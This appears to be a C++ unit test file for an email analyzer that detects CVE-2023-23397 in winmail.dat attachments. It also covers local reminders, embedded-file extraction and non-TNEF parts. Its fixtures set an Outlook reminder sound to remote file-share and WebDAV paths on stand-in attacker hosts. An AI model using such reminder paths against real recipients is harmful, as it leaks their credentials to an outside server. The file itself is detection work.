// tnef analyzer: a winmail.dat whose appointment plays its reminder from a remote share is
// CVE-2023-23397 (file share and WebDAV forms); a local reminder sound is not; the files inside
// are extracted as child objects; a part named winmail.dat that is not TNEF gets a note.
#include <gtest/gtest.h>

#include "common/test_base64.h"
#include "analyzers/analyzer_harness.h"
#include "objects/tnef/tnef_test_writer.h"

namespace vigie::analyzers {
namespace {

namespace tw = objects::tnef::testing;

std::string base64_of(std::string_view bytes) { return test_support::base64(bytes, true); }

std::string with_winmail(std::string_view tnef, std::string_view type = "application/ms-tnef") {
  return "From: a@outside.example\nTo: b@example.net\nSubject: Réunion\nContent-Type: multipart/mixed; boundary=b\n\n"
         "--b\nContent-Type: text/plain\n\nRéunion.\n--b\nContent-Type: " + std::string(type) +
         "; name=\"winmail.dat\"\nContent-Transfer-Encoding: base64\n"
         "Content-Disposition: attachment; filename=\"winmail.dat\"\n\n" + base64_of(tnef) + "\n--b--\n";
}

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("tnef");
  return h;
}

TEST(TnefTest, AReminderSoundOnAFileShareIsCve202323397) {
  const auto findings = harness().analyze(with_winmail(tw::reminder_on("\\\\203.0.113.7\\share\\alarm.wav")));
  const Finding* f = AnalyzerHarness::find(findings, "OUTLOOK_REMINDER_UNC");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->evidence.at(0).field, "PidLidReminderFileParameter");
  EXPECT_EQ(f->evidence.at(0).value, "\\\\203.0.113.7\\share\\alarm.wav (file share on 203.0.113.7)");
  EXPECT_EQ(f->evidence.at(1).value, "IPM.Appointment");
  EXPECT_EQ(f->evidence.at(2).value, "true");
  EXPECT_NE(f->evidence.back().value.find("CVE-2023-23397"), std::string::npos);
}

TEST(TnefTest, AReminderSoundOnAWebDavShareIsReportedAsSuch) {
  const auto findings =
      harness().analyze(with_winmail(tw::reminder_on("\\\\files.attacker.example@SSL\\DavWWWRoot\\a.wav"), "application/octet-stream"));
  const Finding* f = AnalyzerHarness::find(findings, "OUTLOOK_REMINDER_UNC");
  ASSERT_NE(f, nullptr);
  EXPECT_NE(f->evidence.at(0).value.find("WebDAV share on files.attacker.example"), std::string::npos);
}

TEST(TnefTest, ALocalReminderSoundIsSilent) {
  for (std::string_view path : {"C:\\Windows\\Media\\Alarm01.wav", "reminder.wav", "\\\\?\\C:\\x.wav"}) {
    EXPECT_EQ(AnalyzerHarness::find(harness().analyze(with_winmail(tw::reminder_on(path))), "OUTLOOK_REMINDER_UNC"), nullptr)
        << path;
  }
}

TEST(TnefTest, FilesInsideAreExtracted) {
  tw::Properties names;
  names.unicode(0x3707, "Procès-verbal.pdf");
  const std::string tnef = tw::Stream().message_class("IPM.Note").file("PROCES~1.PDF", "%PDF-1.4\n%%EOF\n")
                               .attachment_properties(names).bytes();
  const AnalyzerHarness::Run run = harness().run(with_winmail(tnef));
  const Object* pdf = nullptr;
  for (const Object& o : run.objects) {
    if (o.origin == ObjectOrigin::kEmbedded) pdf = &o;
  }
  ASSERT_NE(pdf, nullptr);
  EXPECT_EQ(pdf->filename, "Procès-verbal.pdf");
  EXPECT_EQ(pdf->detected_type, "application/pdf");
  EXPECT_EQ(run.objects.at(pdf->parent).filename, "winmail.dat");
}

TEST(TnefTest, AWinmailDatThatIsNotTnefGetsANote) {
  const AnalyzerHarness::Run run = harness().run(with_winmail("not tnef at all"));
  bool noted = false;
  for (const Object& o : run.objects) {
    for (const std::string& note : o.notes) noted = noted || note.find("no TNEF signature") != std::string::npos;
  }
  EXPECT_TRUE(noted);
}

}  // namespace
}  // namespace vigie::analyzers
